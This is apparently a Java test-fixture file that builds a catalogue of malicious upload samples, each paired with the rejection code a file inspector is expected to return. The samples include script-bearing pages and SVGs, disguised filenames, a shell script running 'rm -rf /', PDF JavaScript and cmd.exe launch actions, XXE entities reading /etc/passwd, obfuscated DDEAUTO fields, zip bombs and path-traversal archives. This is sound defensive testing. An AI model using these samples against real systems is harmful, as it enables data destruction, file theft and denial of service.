package org.koldoo.files;

import static org.koldoo.files.Samples.join;
import static org.koldoo.files.Samples.latin;

import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;

/**
 * A file that somebody sends with bad intentions.
 *
 * @param code what they are told
 */
record Attack(String what, String name, byte[] bytes, String code) {

    @Override
    public String toString() {
        return what;
    }

    static List<Attack> all() {
        var all = new ArrayList<Attack>();
        all.addAll(names());
        all.addAll(pdfs());
        all.addAll(pictures());
        all.addAll(documents());
        all.addAll(archives());
        all.addAll(others());
        return all;
    }

    private static Attack of(String what, String name, byte[] bytes, String code) {
        return new Attack(what, name, bytes, code);
    }

    private static List<Attack> names() {
        var script = latin("<script>alert(1)</script>");
        return List.of(
                of("a page", "a.html", script, "file.kind"),
                of("a page under the name of a photo", "a.jpg", script, "file.disguised"),
                of(
                        "a drawing that runs",
                        "a.svg",
                        latin("<svg xmlns='http://www.w3.org/2000/svg' onload='x()'/>"),
                        "file.kind"),
                of(
                        "the same under the name of a picture",
                        "a.png",
                        latin("<svg xmlns='http://www.w3.org/2000/svg' onload='x()'/>"),
                        "file.disguised"),
                of("a program behind two endings", "photo.jpg.exe", Samples.picture("jpeg"), "file.kind"),
                of("a program that reads backwards", "photo\u202Egpj.exe", Samples.picture("jpeg"), "file.kind"),
                of("a program behind an invisible end", "a.exe\u0000.jpg", latin("MZ\0\0program"), "file.disguised"),
                of("an ending behind a dot and blanks", "a.hta. . ", latin("x"), "file.kind"),
                of("no ending", "README", latin("x"), "file.kind"),
                of("a document with macros by its name", "a.docm", Samples.docx(), "file.kind"),
                of("an archive", "a.zip", Samples.docx(), "file.kind"),
                of("a program", "a.pdf", latin("MZ\u0090\0\3\0\0\0program"), "file.disguised"),
                of("a shell script", "a.txt", latin("#!/bin/sh\nrm -rf /\n"), "file.disguised"),
                of("a page under the name of a text", "a.txt", script, "file.disguised"),
                of("nothing at all", "a.pdf", new byte[0], "file.empty"),
                of("more than may be", "a.pdf", new byte[FileInspection.LARGEST + 1], "file.size"));
    }

    private static List<Attack> pdfs() {
        var bomb = "x".repeat(70_000_000);
        return List.of(
                of(
                        "a PDF with a script",
                        "a.pdf",
                        Samples.pdf("3 0 obj<</S/JavaScript/JS(app.alert(1))>>endobj"),
                        "file.active"),
                of(
                        "the script's name in numbers",
                        "a.pdf",
                        Samples.pdf("3 0 obj<</S/J#61va#53cript/JS 4 0 R>>endobj"),
                        "file.active"),
                of("only the short name", "a.pdf", Samples.pdf("3 0 obj<</S/X/JS (x)>>endobj"), "file.active"),
                of(
                        "a script in a packed list",
                        "a.pdf",
                        Samples.packedPdf("3 0 <</S/JavaScript/JS(x)>>", "/FlateDecode"),
                        "file.active"),
                of(
                        "a list packed in a rare way",
                        "a.pdf",
                        Samples.packedPdf("3 0 <<>>", "[/ASCIIHexDecode/FlateDecode]"),
                        "file.active"),
                of(
                        "the list's name in numbers",
                        "a.pdf",
                        replaced(
                                Samples.packedPdf("3 0 <</S/JavaScript/JS(x)>>", "/FlateDecode"),
                                "/ObjStm/N 1/First",
                                "/ObjSt#6D/N 1/F#69rst"),
                        "file.active"),
                of(
                        "a list whose name a text covers",
                        "a.pdf",
                        Samples.packedPdf("3 0 <</S/JavaScript/JS(x)>>", "/FlateDecode/X(obj)"),
                        "file.active"),
                of(
                        "a list behind a long text",
                        "a.pdf",
                        replaced(
                                Samples.packedPdf(
                                        "3 0 <</S/JavaScript/JS(x)>>", "/FlateDecode/X<" + "20".repeat(3000) + ">"),
                                "/Type/ObjStm/N",
                                "/N"),
                        "file.active"),
                of(
                        "a list without its name",
                        "a.pdf",
                        replaced(
                                Samples.packedPdf("3 0 <</S/JavaScript/JS(x)>>", "/FlateDecode/X(obj)"),
                                "/Type/ObjStm/N",
                                "/N"),
                        "file.active"),
                of("a list that grows huge", "a.pdf", Samples.packedPdf(bomb, "/FlateDecode"), "file.archive"),
                of(
                        "a form of XFA with an outside entity",
                        "a.pdf",
                        Samples.pdf(
                                "3 0 obj<</XFA 4 0 R>>endobj\n4 0 obj<<>>stream\n<!DOCTYPE x[<!ENTITY e SYSTEM 'file:///etc/passwd'>]>\nendstream endobj"),
                        "file.active"),
                of(
                        "a PDF that starts a program",
                        "a.pdf",
                        Samples.pdf("3 0 obj<</S/Launch/F(cmd.exe)>>endobj"),
                        "file.active"),
                of(
                        "a PDF that carries a file",
                        "a.pdf",
                        Samples.pdf("3 0 obj<</Names<</EmbeddedFiles 4 0 R>>>>endobj"),
                        "file.active"),
                of(
                        "a PDF that sends a form",
                        "a.pdf",
                        Samples.pdf("3 0 obj<</S/SubmitForm/F(http://x)>>endobj"),
                        "file.active"),
                of(
                        "a PDF that nobody can look into",
                        "a.pdf",
                        Samples.pdf("3 0 obj<</Encrypt 4 0 R>>endobj"),
                        "file.locked"),
                of("PDF and archive in one", "a.pdf", join(Samples.pdf(), Samples.docx()), "file.damaged"),
                of(
                        "the archive before the end of the PDF",
                        "a.pdf",
                        join(latin("%PDF-1.7\n"), Samples.docx(), latin("\n%%EOF")),
                        "file.disguised"),
                of(
                        "a PDF that does not begin as one",
                        "a.pdf",
                        join(latin("GIF89a/*\n"), Samples.pdf()),
                        "file.disguised"),
                of("half a PDF", "a.pdf", Arrays.copyOf(Samples.pdf(), 90), "file.damaged"));
    }

    private static List<Attack> pictures() {
        var jpeg = Samples.picture("jpeg", 400, 400);
        var png = Samples.picture("png");
        return List.of(
                of("GIF and script in one", "a.jpg", latin("GIF89a/*\1\0\1\0*/=1;alert(1);//"), "file.disguised"),
                of("a GIF", "a.gif", latin("GIF89a\1\0\1\0"), "file.kind"),
                of("a picture of 50,000 x 50,000", "a.png", Samples.png(50_000, 50_000), "file.picture"),
                of("a picture of 40,001 x 1,000", "a.png", Samples.png(40_001, 1_000), "file.picture"),
                of("a picture of negative size", "a.png", Samples.png(-5, 10), "file.damaged"),
                of("a photo that says it is huge", "a.jpg", huge(jpeg), "file.picture"),
                of("half a photo", "a.jpg", Arrays.copyOf(jpeg, jpeg.length / 2), "file.damaged"),
                of("half a picture", "a.png", Arrays.copyOf(png, png.length - 8), "file.damaged"),
                of("a photo drawn a thousand times", "a.jpg", manyScans(jpeg), "file.damaged"),
                of("a PNG under the name of a JPG", "a.jpg", png, "file.disguised"),
                of(
                        "the head of a photo before a page",
                        "a.jpg",
                        join(new byte[] {-1, (byte) 0xD8, -1, (byte) 0xE0}, latin("<html><script>x()</script>")),
                        "file.damaged"));
    }

    private static List<Attack> documents() {
        var relation =
                "<Relationships><Relationship Id='1' Type='http://x/relationships/%s' Target='%s' TargetMode='External'/></Relationships>";
        var rels = "word/_rels/document.xml.rels";
        return List.of(
                of("a macro", "a.docx", Samples.docxWith("word/vbaProject.bin", "x"), "file.active"),
                of(
                        "a macro by another name",
                        "a.docx",
                        docxOfTypes("application/vnd.ms-word.document.macroEnabled.main+xml"),
                        "file.active"),
                of("an object", "a.docx", Samples.docxWith("word/embeddings/oleObject1.bin", "x"), "file.active"),
                of("a control", "a.docx", Samples.docxWith("word/activeX/activeX1.xml", "<x/>"), "file.active"),
                of("a program in it", "a.docx", Samples.docxWith("word/media/a.exe", "MZ"), "file.active"),
                of(
                        "a template from outside",
                        "a.docx",
                        Samples.docxWith(rels, relation.formatted("attachedTemplate", "http://x/a.dotm")),
                        "file.active"),
                of(
                        "a picture from outside",
                        "a.docx",
                        Samples.docxWith(rels, relation.formatted("image", "http://x/a.png")),
                        "file.active"),
                of(
                        "a link that starts something",
                        "a.docx",
                        Samples.docxWith(rels, relation.formatted("hyperlink", "ms-msdt:/id")),
                        "file.active"),
                of("a frame", "a.docx", Samples.docxWith(rels, relation.formatted("frame", "\\\\x\\y")), "file.active"),
                of(
                        "a field that starts a program",
                        "a.docx",
                        Samples.docxWith("word/header1.xml", "<w:instrText> DDEAUTO c:\\cmd.exe</w:instrText>"),
                        "file.active"),
                of(
                        "the same in pieces",
                        "a.docx",
                        Samples.docxWith(
                                "word/header1.xml",
                                "<w:r><w:instrText> DD</w:instrText><w:instrText>EAUTO c:\\cmd</w:instrText></w:r>"),
                        "file.active"),
                of(
                        "the same under another prefix",
                        "a.docx",
                        Samples.docxWith("word/header1.xml", "<x:instrText> DDEAUTO c:\\cmd.exe</x:instrText>"),
                        "file.active"),
                of(
                        "the same in numbered letters",
                        "a.docx",
                        Samples.docxWith("word/header1.xml", "<w:instrText> D&#68;EAUTO c:\\cmd.exe</w:instrText>"),
                        "file.active"),
                of(
                        "the same with a remark in the middle",
                        "a.docx",
                        Samples.docxWith("word/header1.xml", "<w:instrText> DD<!-- -->EAUTO c:\\cmd.exe</w:instrText>"),
                        "file.active"),
                of(
                        "the same in other quotes",
                        "a.docx",
                        Samples.docxWith("word/header1.xml", "<w:fldSimple w:instr='DDEAUTO c:\\cmd.exe'/>"),
                        "file.active"),
                of(
                        "the same in a part that is not called XML",
                        "a.docx",
                        Samples.docxWith("word/header1.png", "<w:instrText> DDEAUTO c:\\cmd.exe</w:instrText>"),
                        "file.active"),
                of(
                        "a picture from outside, in numbered letters",
                        "a.docx",
                        Samples.docxWith(
                                rels,
                                relation.formatted("image", "http://x/a.png").replace("External", "&#69;xternal")),
                        "file.active"),
                of(
                        "a template, in numbered letters",
                        "a.docx",
                        Samples.docxWith(
                                rels,
                                relation.formatted("attached&#84;emplate", "a.dotm")
                                        .replace("External", "Internal")),
                        "file.active"),
                of(
                        "an outside entity",
                        "a.docx",
                        Samples.docxWith(
                                "word/styles.xml", "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>"),
                        "file.active"),
                of(
                        "words in another encoding",
                        "a.docx",
                        Samples.docxWith("word/styles.xml", "<?xml version='1.0' encoding='UTF-7'?><x/>"),
                        "file.active"),
                of("a page taken in", "a.docx", Samples.docxWith("word/afchunk.html", "<script>"), "file.active"),
                of(
                        "an archive that is no document",
                        "a.docx",
                        Samples.zip(new LinkedHashMap<>(java.util.Map.of("a.txt", latin("x")))),
                        "file.disguised"));
    }

    private static List<Attack> archives() {
        var parts = Samples.docxParts();
        parts.put("word/media/image1.png", new byte[30_000_000]);
        var many = Samples.docxParts();
        for (int i = 0; i < 3_000; i++) {
            many.put("word/" + i + ".xml", latin("<x/>"));
        }
        var nested = Samples.docxParts();
        nested.put("word/media/lib.zip", Samples.zip(parts));
        var docx = Samples.docx();
        return List.of(
                of("an archive that grows huge", "a.docx", Samples.zip(parts), "file.archive"),
                of("an archive in an archive", "a.docx", Samples.zip(nested), "file.active"),
                of("three thousand files", "a.docx", Samples.zip(many), "file.archive"),
                of("a file outside the archive", "a.docx", Samples.docxWith("../../etc/x.xml", "<x/>"), "file.archive"),
                of("a file from the root", "a.docx", Samples.docxWith("/etc/x.xml", "<x/>"), "file.archive"),
                of("a file of another drive", "a.docx", Samples.docxWith("c:x.xml", "<x/>"), "file.archive"),
                of("a link in the archive", "a.docx", link(docx), "file.archive"),
                of("an archive that lies about a length", "a.docx", lie(docx), "file.archive"),
                of("one file used twice", "a.docx", overlap(docx), "file.archive"),
                of("a file that lies in another one", "a.docx", quoted(), "file.archive"),
                of(
                        "a name that is another one in front",
                        "a.docx",
                        replacedFirst(docx, "word/document.xml", "word/docutent.xml"),
                        "file.archive"),
                of("a locked archive", "a.docx", LockedArchive.of(Samples.docxParts(), "x"), "file.locked"),
                of("a program in front of the archive", "a.docx", join(latin("MZ\0\0"), docx), "file.disguised"),
                of("a note behind the archive", "a.docx", join(docx, latin("<script>")), "file.damaged"),
                of("half an archive", "a.docx", Arrays.copyOf(docx, docx.length - 30), "file.damaged"));
    }

    private static List<Attack> others() {
        return List.of(
                of("letters that are none", "a.txt", new byte[] {'a', 'b', 0, 1, 2, 3}, "file.damaged"),
                of(
                        "a text of random bytes",
                        "a.txt",
                        new byte[] {(byte) 0x98, (byte) 0xFE, (byte) 0x81, 'a', (byte) 0x90},
                        "file.damaged"),
                of(
                        "a page in wide letters",
                        "a.txt",
                        "\uFEFF<script>x()</script>".getBytes(StandardCharsets.UTF_16LE),
                        "file.disguised"),
                of(
                        "a text in rare letters",
                        "a.txt",
                        "\u3042\u3044".getBytes(Charset.forName("Shift_JIS")),
                        "file.damaged"),
                of(
                        "a recording with a page in it",
                        "a.mp3",
                        join(Samples.mp3(2), latin("<script>x()</script>"), Samples.mp3(2)),
                        "file.damaged"),
                of("a recording with an archive behind", "a.mp3", join(Samples.mp3(5), Samples.docx()), "file.damaged"),
                of(
                        "a recording with an archive behind, in boxes",
                        "a.m4a",
                        join(Samples.m4a(), Samples.docx()),
                        "file.damaged"),
                of("half a recording", "a.m4a", Arrays.copyOf(Samples.m4a(), 100), "file.damaged"),
                of("a film", "a.m4a", replaced(Samples.m4a(), "soun", "vide"), "file.disguised"));
    }

    private static byte[] docxOfTypes(String type) {
        var parts = Samples.docxParts();
        parts.put("[Content_Types].xml", latin("<Types><Override ContentType=\"" + type + "\"/></Types>"));
        return Samples.zip(parts);
    }

    private static byte[] replaced(byte[] bytes, String what, String with) {
        return latin(new String(bytes, StandardCharsets.ISO_8859_1).replace(what, with));
    }

    private static byte[] replacedFirst(byte[] bytes, String what, String with) {
        return latin(new String(bytes, StandardCharsets.ISO_8859_1).replaceFirst(what, with));
    }

    private static int table(ByteBuffer zip) {
        return zip.getInt(zip.capacity() - 6);
    }

    private static ByteBuffer copy(byte[] zip) {
        return ByteBuffer.wrap(zip.clone()).order(ByteOrder.LITTLE_ENDIAN);
    }

    private static byte[] link(byte[] zip) {
        var copy = copy(zip);
        return copy.putInt(table(copy) + 38, 0120777 << 16).array();
    }

    private static byte[] lie(byte[] zip) {
        var copy = copy(zip);
        return copy.putInt(table(copy) + 24, 7).array();
    }

    /** The second entry of the table points to the first file. */
    private static byte[] overlap(byte[] zip) {
        var copy = copy(zip);
        int first = table(copy);
        int second = first + 46 + copy.getShort(first + 28);
        return copy.putInt(second + 42, 0).array();
    }

    /** The bytes of one file are the whole of another one: so a small archive grows with the square of its files. */
    private static byte[] quoted() {
        var inner = Samples.zip(new LinkedHashMap<>(java.util.Map.of("word/b.xml", latin("<b/>"))));
        int innerTable = table(copy(inner));
        var outer = Samples.stored("word/a.xml", Arrays.copyOf(inner, innerTable));
        var line = copy(Arrays.copyOfRange(inner, innerTable, inner.length - 22));
        int end = outer.length - 22;
        int at = new String(outer, StandardCharsets.ISO_8859_1).indexOf("word/b.xml") - 30;
        line.putInt(42, at);
        var tail = copy(Arrays.copyOfRange(outer, end, outer.length));
        tail.putShort(8, (short) (tail.getShort(8) + 1)).putShort(10, (short) (tail.getShort(10) + 1));
        tail.putInt(12, tail.getInt(12) + line.capacity());
        return join(Arrays.copyOf(outer, end), line.array(), tail.array());
    }

    private static byte[] huge(byte[] jpeg) {
        var copy = jpeg.clone();
        for (int at = 0; at < copy.length; at++) {
            if (copy[at] == -1 && (copy[at + 1] & 0xFF) == 0xC0) {
                Arrays.fill(copy, at + 5, at + 9, (byte) 0x75);
                return copy;
            }
        }
        throw new AssertionError();
    }

    private static byte[] manyScans(byte[] jpeg) {
        int scan = 0;
        while (jpeg[scan] != -1 || (jpeg[scan + 1] & 0xFF) != 0xDA) {
            scan++;
        }
        var one = Arrays.copyOfRange(jpeg, scan, jpeg.length - 2);
        var all = new ArrayList<byte[]>();
        all.add(Arrays.copyOf(jpeg, scan));
        for (int i = 0; i < 150; i++) {
            all.add(one);
        }
        all.add(new byte[] {-1, (byte) 0xD9});
        return join(all.toArray(byte[][]::new));
    }
}
